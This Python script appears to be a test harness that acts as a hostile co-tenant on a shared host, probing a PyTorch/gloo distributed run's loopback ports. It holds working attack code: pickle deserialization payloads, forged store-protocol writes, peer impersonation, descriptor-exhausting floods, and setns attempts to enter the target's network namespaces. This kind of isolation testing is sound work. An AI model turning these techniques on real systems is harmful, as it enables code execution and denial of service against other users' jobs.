"""What another user of the same host does to a run: run as that user, with nothing but Python's standard library.

    python3 stranger.py UID PROOF KIND

It watches for sockets of the user UID that listen at loopback and did not do so before, and tries its way in at each,
again and again until its standard input ends. Then it prints a JSON object with what it found. KIND is one of
ATTACKS, or `enter`: it then tries to enter the networks of the user's processes.
"""

from __future__ import annotations

import contextlib
import ctypes
import json
import os
import pickle
import random
import select
import socket
import struct
import sys
import time
from pathlib import Path

LISTENS = "0A"
"""State of a socket in /proc/net/tcp."""
LOOPBACK = "0100007F"
SEQUENCES = 24
"""gloo numbers the connections that it expects from 0 on; the first eight bytes of a connection are its number."""
HELD = 400
"""Connections that are kept open at most, of each process of the stranger."""
NEW_NETWORK = 0x40000000
VISITS = 20
"""Tries per door: a door that is new is tried at once, then every 20 ms."""


class Payload:
    """Unpickled, it creates a file: the proof that code of the stranger ran."""

    def __init__(self, proof: str) -> None:
        self.proof = proof

    def __reduce__(self) -> tuple[object, tuple[str, str]]:
        return open, (self.proof, "w")


def doors(uid: int) -> set[int]:
    """Ports at which the user listens at loopback; the kernel tells everyone."""
    rows = [line.split() for line in Path("/proc/net/tcp").read_text().splitlines()[1:]]
    found = [row[1] for row in rows if row[3] == LISTENS and int(row[7]) == uid]
    return {int(port, 16) for address, port in (one.split(":") for one in found) if address in (LOOPBACK, "00000000")}


class Visit:
    """What was found; connections that stay open are kept here."""

    def __init__(self, proof: str) -> None:
        self.pickled = pickle.dumps(Payload(proof))
        self.held: list[socket.socket] = []
        self.counts = {"doors": 0, "connections": 0, "stores": 0, "answers": 0, "refused": 0}
        self.counts |= {"networks": 0, "entered": 0}

    def connect(self, port: int) -> socket.socket | None:
        """A connection, or None if there is none to have."""
        try:
            door = socket.create_connection(("127.0.0.1", port), timeout=0.5)
        except OSError:
            self.counts["refused"] += 1
            return None
        self.counts["connections"] += 1
        return door

    def send(self, port: int, data: bytes, *, hold: bool = False) -> None:
        """Connect and send; `hold` keeps the connection."""
        door = self.connect(port)
        if door is None:
            return
        with contextlib.suppress(OSError):
            door.sendall(data)
        if hold and len(self.held) < HELD:
            self.held.append(door)
        else:
            door.close()

    def answer(self) -> None:
        """Answer whatever a rank says on the connections that are kept, with a pickle behind each frame."""
        ready, _, _ = select.select(self.held, [], [], 0)
        for door in ready:
            with contextlib.suppress(OSError):
                data = door.recv(65536)
                if data:
                    self.counts["answers"] += 1
                    door.sendall(data + self.pickled)
                    continue
            self.held.remove(door)
            door.close()


def store(visit: Visit, port: int) -> None:
    """Speak torch's store protocol (2.13): a magic number, set a rank's gloo address, count the keys."""

    def said(data: bytes) -> bytes:
        return struct.pack("<Q", len(data)) + data

    door = visit.connect(port)
    if door is None:
        return
    hello = b"\0" + struct.pack("<I", 0x3C85F7CE)
    with contextlib.suppress(OSError), door:
        door.sendall(hello + b"\1" + said(b"/default_pg/0//cpu//0/rank_0") + said(visit.pickled) + b"\7")
        visit.counts["stores"] += len(door.recv(8)) == 8


def impersonate(visit: Visit, port: int) -> None:
    """Take the place of a peer: give the numbers of the connections that gloo waits for, and stay."""
    for number in range(SEQUENCES):
        visit.send(port, struct.pack("<q", number), hold=True)


def interrupt(visit: Visit, port: int) -> None:
    """Take the place of a peer, send a frame that makes no sense, and hang up."""
    for number in range(SEQUENCES):
        visit.send(port, struct.pack("<q", number) + random.randbytes(64))


def garbage(visit: Visit, port: int) -> None:
    """Random bytes, and nothing at all."""
    visit.send(port, random.randbytes(4096))
    visit.send(port, b"")


def pickles(visit: Visit, port: int) -> None:
    """Pickles that create a file."""
    visit.send(port, visit.pickled * 100)


def flood(visit: Visit, port: int) -> None:
    """Connections that stay open and say nothing: file descriptors run out."""
    for _ in range(50):
        visit.send(port, b"\0", hold=True)


def enter(visit: Visit, uid: int) -> None:
    """Enter the networks of the user's processes, through their threads and through the descriptors that they hold."""
    own = os.stat("/proc/self/ns/net").st_ino
    for process in Path("/proc").iterdir():
        with contextlib.suppress(OSError):
            if not process.name.isdigit() or process.stat().st_uid != uid:
                continue
            found = [*process.glob("task/*/ns/net"), *(process / "fd" / str(number) for number in range(3, 64))]
            for path in found:
                visit.counts["networks"] += 1
                with contextlib.suppress(OSError):
                    descriptor = os.open(path, os.O_RDONLY | os.O_NONBLOCK)
                    is_other = os.fstat(descriptor).st_ino != own
                    entered = is_other and ctypes.CDLL(None).setns(descriptor, NEW_NETWORK) == 0
                    visit.counts["entered"] += entered
                    os.close(descriptor)


ATTACKS = {
    "store": store,
    "impersonate": impersonate,
    "interrupt": interrupt,
    "garbage": garbage,
    "pickles": pickles,
    "flood": flood,
}


def main() -> None:
    """Attack until the standard input ends."""
    uid, proof, kind = int(sys.argv[1]), sys.argv[2], sys.argv[3]
    visit, before = Visit(proof), doors(uid)
    tried: dict[int, int] = {}
    last = 0.0
    print("ready", flush=True)
    while not select.select([sys.stdin], [], [], 0)[0]:
        again = time.monotonic() - last > 0.02
        last = time.monotonic() if again else last
        if kind == "enter":
            enter(visit, uid)
        for port in doors(uid) - before if kind in ATTACKS else ():
            if port not in tried or (again and tried[port] < VISITS):
                tried[port] = tried.get(port, 0) + 1
                ATTACKS[kind](visit, port)
        visit.answer()
    visit.counts["doors"] = len(tried)
    print(json.dumps(visit.counts))


if __name__ == "__main__":
    main()
